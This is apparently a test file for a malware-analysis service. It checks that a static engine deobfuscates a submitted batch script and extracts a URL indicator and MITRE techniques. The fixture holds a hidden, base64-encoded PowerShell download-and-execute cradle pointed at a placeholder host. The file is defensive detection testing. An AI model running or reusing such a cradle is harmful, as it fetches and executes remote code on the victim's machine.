import { beforeAll, describe, expect, test } from 'vitest';
import { DEFAULT_ENGINE_LIMITS } from '../../lib/engines/engine.ts';
import { reportOf } from '../../lib/engines/threads/worker.ts';
import { fileForm, testService } from './scripted-service.ts';

const INNER = "IEX (New-Object Net.WebClient).DownloadString('http://files.example.invalid/a')";
const SCRIPT = `powershell -w hidden -enc ${Buffer.from(INNER, 'utf16le').toString('base64')}\r\nrem contact someone at files.example.invalid`;
const runner = { run: (task: Parameters<typeof reportOf>[0]) => reportOf(task, DEFAULT_ENGINE_LIMITS) };

interface Artifact {
  readonly id: string;
  readonly type: string;
  readonly source: string;
}

describe('the content that the static engine took out of a file', () => {
  const service = testService({ runner });
  let at = '';
  const json = async (path: string) => await (await service.call(`${at}${path}`)).json();
  beforeAll(async () => {
    const response = await service.call('/submissions/static', {
      method: 'POST',
      body: fileForm(SCRIPT, {}, 'run.bat'),
    });
    const { uuid } = (await response.json()) as { uuid: string };
    await service.queue.idle();
    at = `/submissions/${uuid}`;
  });

  test('is among the artifacts', async () => {
    const { items } = (await json('/artifacts')) as { items: Artifact[] };
    expect(items.map(({ type, source }) => ({ type, source }))).toEqual([
      { type: 'sample', source: 'upload' },
      { type: 'deobfuscated_code', source: 'static' },
    ]);
  });

  test('gives its values to the indicators of compromise', async () => {
    const { items } = (await json('/iocs')) as { items: { type: string; value: string }[] };
    expect(items).toContainEqual(expect.objectContaining({ type: 'url', value: 'http://files.example.invalid/a' }));
  });

  test('shows techniques in the report', async () => {
    const { techniques } = (await json('/mitre')) as { techniques: string[] };
    expect(techniques).toEqual(expect.arrayContaining(['T1105', 'T1140']));
  });
});
